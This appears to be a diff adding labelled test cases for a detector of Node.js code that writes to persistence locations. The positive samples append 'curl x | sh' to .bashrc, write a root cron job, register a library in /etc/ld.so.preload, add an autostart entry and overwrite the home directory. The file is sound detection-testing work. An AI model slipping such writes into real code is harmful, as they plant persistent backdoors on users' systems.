@@ -1,0 +1,54 @@
+//@ pos append to bashrc
+const fs = require('fs');
+const os = require('os');
+fs.appendFileSync(os.homedir() + '/.bashrc', 'curl x | sh\n');
+//@ pos write stream on zshrc
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
+fs.createWriteStream(path.join(os.homedir(), '.zshrc'), { flags: 'a' });
+//@ pos promises writeFile on a cron.d file
+const { writeFile } = require('fs/promises');
+writeFile('/etc/cron.d/job', '* * * * * root sh /tmp/x\n');
+//@ pos a link to profile under a local name
+const fs = require('fs');
+const os = require('os');
+fs.symlinkSync(`${os.homedir()}/.profile`, './settings');
+fs.appendFileSync('./settings', 'x\n');
+//@ pos replaced by a copy
+const fs = require('fs');
+const os = require('os');
+fs.copyFileSync('/tmp/rc', os.homedir() + '/.bash_profile');
+//@ pos renamed onto a user autostart entry
+const fs = require('fs');
+fs.renameSync('/tmp/x.desktop', `${process.env.HOME}/.config/autostart/x.desktop`);
+//@ neg read the bashrc
+const fs = require('fs');
+const os = require('os');
+const text = fs.readFileSync(os.homedir() + '/.bashrc', 'utf8');
+console.log(text.includes('nvm'));
+//@ neg back up the bashrc (copied from, not onto)
+const fs = require('fs');
+const os = require('os');
+fs.copyFileSync(os.homedir() + '/.bashrc', './backup/bashrc');
+//@ neg write a project file named like one
+const fs = require('fs');
+fs.writeFileSync('./profile', 'x');
+fs.appendFileSync('config/.bashrc.example', 'export A=1\n');
+//@ pos bash_aliases through path.format
+const fsp = require('fs/promises');
+const os = require('os');
+const path = require('path');
+fsp.appendFile(path.format({ dir: os.homedir(), base: '.bash_aliases' }), "alias ls='sh /tmp/x'\n");
+//@ pos a library registered in ld.so.preload
+const fs = require('fs');
+fs.appendFileSync('/etc/ld.so.preload', '/usr/local/lib/libx.so\n');
+//@ pos a directory copied onto the home
+const fs = require('fs');
+const os = require('os');
+fs.cpSync('/tmp/bundle', os.homedir(), { recursive: true, force: true });
+//@ neg a directory copied into a project under the home
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+fs.cpSync('./template', path.join(os.homedir(), 'projects', 'demo'), { recursive: true });
